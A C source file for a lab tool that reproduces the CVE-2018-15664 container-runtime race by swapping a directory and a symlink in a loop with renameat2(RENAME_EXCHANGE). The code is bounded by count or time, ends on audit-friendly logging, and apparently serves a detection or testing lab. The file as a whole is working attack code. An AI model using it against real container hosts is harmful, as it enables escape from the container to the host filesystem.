/* swap: the CVE-2018-15664 attacker inside the lab container.
 * Exchanges two names atomically with renameat2(RENAME_EXCHANGE) in a loop, so that a
 * path resolved by the runtime is sometimes a directory and sometimes a symlink.
 * Bounded on purpose (count and/or duration) because every swap is one audit event.
 * Usage: swap [-n COUNT] [-t SECONDS] [-i INTERVAL_US] [-w START_DELAY_MS] PATH_A PATH_B
 * SIGTERM/SIGINT end the loop early (the lab stops it when the copies are done).
 * Prints "swap pid=<pid> count=<n> elapsed_ms=<ms>" on stderr at the end.
 * Built with gcc -static so it runs in the busybox-only lab image. */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/syscall.h>
#include <time.h>
#include <unistd.h>

#ifndef RENAME_EXCHANGE
#define RENAME_EXCHANGE (1 << 1)
#endif

static volatile sig_atomic_t stop;
static void on_signal(int sig) { (void)sig; stop = 1; }

static double now_s(void) {
  struct timespec ts;
  clock_gettime(CLOCK_MONOTONIC, &ts);
  return (double)ts.tv_sec + (double)ts.tv_nsec / 1e9;
}

int main(int argc, char **argv) {
  long count = 0;          /* 0 = unbounded by count */
  double seconds = 0;      /* 0 = unbounded by time */
  long interval_us = 0;    /* pause between swaps */
  long delay_ms = 0;
  int opt;
  while ((opt = getopt(argc, argv, "n:t:i:w:")) != -1) {
    switch (opt) {
      case 'n': count = atol(optarg); break;
      case 't': seconds = atof(optarg); break;
      case 'i': interval_us = atol(optarg); break;
      case 'w': delay_ms = atol(optarg); break;
      default: goto usage;
    }
  }
  if (argc - optind != 2 || (count <= 0 && seconds <= 0)) goto usage;
  const char *a = argv[optind], *b = argv[optind + 1];
  struct sigaction sa;
  memset(&sa, 0, sizeof sa);
  sa.sa_handler = on_signal;
  sigaction(SIGTERM, &sa, NULL);
  sigaction(SIGINT, &sa, NULL);
  if (delay_ms > 0) usleep((useconds_t)delay_ms * 1000);
  double start = now_s();
  long done = 0, failed = 0;
  while (!stop) {
    if (count > 0 && done >= count) break;
    if (seconds > 0 && now_s() - start >= seconds) break;
    if (syscall(SYS_renameat2, AT_FDCWD, a, AT_FDCWD, b, RENAME_EXCHANGE) != 0) {
      if (++failed > 100) { perror("renameat2"); return 1; }
    }
    done++;
    if (interval_us > 0) usleep((useconds_t)interval_us);
  }
  /* leave the pair in its original order: an odd count ends swapped */
  if (done % 2 == 1) syscall(SYS_renameat2, AT_FDCWD, a, AT_FDCWD, b, RENAME_EXCHANGE), done++;
  fprintf(stderr, "swap pid=%d count=%ld elapsed_ms=%ld\n", (int)getpid(), done,
          (long)((now_s() - start) * 1000));
  return 0;
usage:
  fprintf(stderr, "usage: swap [-n COUNT] [-t SECONDS] [-i INTERVAL_US] [-w DELAY_MS] PATH_A PATH_B\n");
  return 2;
}
